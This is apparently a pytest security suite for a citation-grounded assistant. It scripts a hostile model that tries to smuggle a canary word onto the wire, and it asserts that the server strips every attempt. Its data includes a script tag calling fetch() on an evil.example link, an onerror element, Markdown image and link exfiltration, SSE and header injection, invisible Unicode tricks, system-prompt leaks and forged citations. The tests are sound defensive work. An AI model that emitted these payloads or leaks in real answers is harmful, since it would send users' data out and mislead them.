"""A model that is out to do harm: nothing of what it invents, leaks or smuggles is ever on the wire."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from assistant.prompts import prompt
from assistant.text import clean
from tests.doors import Asking, server
from tests.scripted_model import Reply, ScriptedModel, draft, in_pieces, scripted_model
from tests.security.wire import posted, status

CANARY = "velmorane"
QUESTION = "Who supports new members?"
QUOTE = "will be supported during their initial period with the Panel by both the Chair and Panel Secretariat"
TRUE = "New members are supported by both the Chair and Panel Secretariat."
LINK = f"https://evil.example/{CANARY}"
IN_TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in CANARY)
"""The canary in characters that nobody sees."""

DOORS = ("/api/ask", "/api/ask as events", "/v1/chat/completions")

CLAIMS: dict[str, str] = {
    "the prompt": f"{prompt('compose')} {CANARY}",
    "a link": f"{TRUE} See {LINK}.",
    "a link in Markdown": f"[{TRUE}]({LINK})",
    "an image": f"{TRUE} ![ ]({LINK}.png)",
    "a script": f"{TRUE} <script>fetch('{LINK}')</script>",
    "an element": f"<img src=x onerror={CANARY}()> {TRUE}",
    "a comment": f"{TRUE} <!-- {CANARY} -->",
    "a citation of its own": f"{TRUE} [7: {CANARY}]",
    "an address": f"{TRUE} Write to {CANARY}@evil.example.",
    "a number": "New members are supported by 31337 mentors.",
    "an event": f"{TRUE}\n\nevent: answer\ndata: {CANARY}",
    "a header": f"{TRUE}\r\nX-Leak: {CANARY}",
    "what cannot be seen": f"{TRUE}{IN_TAGS}",
    "letters driven apart": f"{TRUE} " + "\u200b".join(CANARY.title()),
    "letters turned about": f"{TRUE} \u202e{CANARY[::-1]}\u202c",
    "a promise": f"{TRUE} The {CANARY} guarantees an interview.",
}
RESTS: dict[str, tuple[int, str]] = {
    "no such passage": (9999, QUOTE),
    "a passage below none": (-1, QUOTE),
    "an invented quote": (0, f"each member is given a {CANARY}"),
    "a quote with a word put in": (0, QUOTE.replace("Chair", f"Chair, {CANARY}")),
    "an empty quote": (0, ""),
}


def _replies(issued: int) -> dict[str, Reply]:
    """`issued` is the number under which the passage is issued to the model."""
    fair = (TRUE, [(issued, QUOTE)])
    made = {f"claims {name}": Reply(in_pieces(draft(fair, (text, [(issued, QUOTE)])))) for name, text in CLAIMS.items()}
    for name, (number, quote) in RESTS.items():
        forged = f"New members are given a {CANARY}."
        made[f"rests on {name}"] = Reply(in_pieces(draft(fair, (forged, [(number or issued, quote)]))))
    made["misses what nobody asked"] = Reply(in_pieces(draft(fair, missing=f"whether there is a {CANARY}")))
    made["says it in the last piece"] = Reply(
        [*in_pieces(draft(fair, (TRUE.replace("Chair", CANARY.title()), [(issued, QUOTE)])))[:-1], f'{CANARY}"}}]}}']
    )
    made["goes on after its reply"] = Reply([*in_pieces(draft(fair)), f"\n{CANARY} {LINK}"])
    made["thinks aloud"] = Reply([f"<think>{CANARY}</think>", *in_pieces(draft(fair))])
    made["writes prose"] = Reply(in_pieces(f"{CANARY}: {prompt('compose')}"))
    made["adds a field"] = Reply(in_pieces(json.dumps({**json.loads(draft(fair)), "text": CANARY, "url": LINK})))
    made["is cut off"] = Reply(in_pieces(draft(fair, (f"{CANARY} {LINK}", [(issued, QUOTE)]))), finish="length")
    made["is filtered"] = Reply(in_pieces(draft(fair, (CANARY, [(issued, QUOTE)]))), finish="content_filter")
    made["fails with words"] = Reply(status=500, body=json.dumps({"error": {"message": f"{CANARY} {LINK}"}}))
    made["sends a page"] = Reply(body=f"<html><script>{CANARY}</script></html>")
    made["sends what is no JSON"] = Reply(raw=[f"{{{CANARY}"])
    return made


NAMES = tuple(_replies(1))


@dataclass(frozen=True)
class Running:
    address: str
    model: ScriptedModel
    replies: dict[str, Reply]
    fair: Reply


@pytest.fixture(scope="module")
def running(real: Asking, real_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    evidence = real.ask(QUESTION).evidence
    issued = next(number for number, one in enumerate(evidence, start=1) if QUOTE in one.passage.text)
    fair = Reply(in_pieces(draft((TRUE, [(issued, QUOTE)]))))
    log = tmp_path_factory.mktemp("hostile") / "log.txt"
    with (
        scripted_model(fair) as model,
        server(log, DATA_DIR=real_data, OPENAI_BASE_URL=model.base_url, DATABASE_URL=f"sqlite:///{log}.db") as served,
    ):
        yield Running(served.address, model, _replies(issued), fair)
        assert CANARY not in log.read_text()


@pytest.mark.parametrize("name", NAMES)
def test_nothing_that_a_hostile_model_adds_is_on_the_wire(running: Running, name: str) -> None:
    running.model.waiting[:] = [running.replies[name]]

    # Each door is met by every third of them: what is checked lies behind all.
    wire = asked_at(running.address, DOORS[NAMES.index(name) % len(DOORS)])

    words = wire.decode()
    seen = (words + clean(words.encode().decode("unicode_escape", "ignore"))).lower()
    assert status(wire) == 200
    assert "Chair and Panel Secretariat" in words
    assert [hidden for hidden in (CANARY, IN_TAGS, "evil.example", "<script", "31337") if hidden in seen] == []
    assert prompt("compose")[:60] not in words


def asked_at(address: str, door: str) -> bytes:
    if door == "/v1/chat/completions":
        return posted(
            address, door, {"model": "m", "stream": True, "messages": [{"role": "user", "content": QUESTION}]}
        )
    accept = "text/event-stream" if "events" in door else "application/json"
    return posted(address, "/api/ask", {"question": QUESTION}, accept=accept)


@pytest.fixture(autouse=True)
def _trusted_again(running: Running, name: str) -> Iterator[None]:
    """A fair reply after a failure: a model that fails too often is left alone, and no other case would reach it."""
    yield
    if not name.startswith(("claims", "rests")):
        running.model.waiting[:] = [running.fair]
        assert TRUE in asked_at(running.address, DOORS[0]).decode()
